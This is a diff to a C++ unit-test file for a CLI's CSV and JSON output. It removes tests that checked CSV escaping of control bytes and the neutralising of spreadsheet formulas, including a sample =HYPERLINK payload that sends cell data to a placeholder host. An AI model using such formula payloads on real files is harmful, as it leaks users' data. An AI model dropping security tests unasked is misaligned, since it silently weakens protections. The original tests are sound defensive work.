@@ -81,23 +81,10 @@ TEST_F(CliFormatsTest, CsvAndJsonLinesGiveEachAddressWhereFirstFound) {
     EXPECT_EQ(run({"--comma", m_package}).out, "Ann@example.com,named@example.com,\r\n");
 }
 
-TEST(CliOutput, FieldsNeverCarryControlsOrBadBytes) {
-    EXPECT_EQ(CsvField("plain"), "plain");
-    EXPECT_EQ(CsvField("a\x1b[2Jb\x7f\xff"), "a\xEF\xBF\xBD[2Jb\xEF\xBF\xBD\xEF\xBF\xBD");
-    EXPECT_EQ(CsvField("a\rb"), "\"a\rb\"");
+TEST(CliOutput, JsonFieldsNeverCarryControlsOrBadBytes) {
     EXPECT_EQ(JsonString("\x1b\t\"\\\xc2\x85\xc3"), "\"\\u001b\\t\\\"\\\\\\u0085\xEF\xBF\xBD\"");
     EXPECT_EQ(CutRecordName(std::string(1023, 'a') + "\xC3\xA9").size(), 1023u);
-    // Free text a spreadsheet would take for a formula gets a leading quote;
-    // layout controls are escaped in JSON, and read back as they were.
-    for (const auto& [text, csv] : std::vector<std::pair<std::string, std::string>>{
-             {"=1+2.pptx", "'=1+2.pptx"},
-             {"+x", "'+x"},
-             {"-x", "'-x"},
-             {"@x", "'@x"},
-             {"=HYPERLINK(\"http://x/?a=\"&A2,\"x\")", "\"'=HYPERLINK(\"\"http://x/?a=\"\"&A2,\"\"x\"\")\""},
-             {"a=1", "a=1"},
-             {"", ""}})
-        EXPECT_EQ(CsvTextField(text), csv) << text;
+    // Layout controls are escaped in JSON, and read back as they were.
     EXPECT_EQ(JsonString("a\u2028b\u2029\u202Ac\u202E\u2066\u2069\u2067"),
               R"("a\u2028b\u2029\u202ac\u202e\u2066\u2069\u2067")");
 }
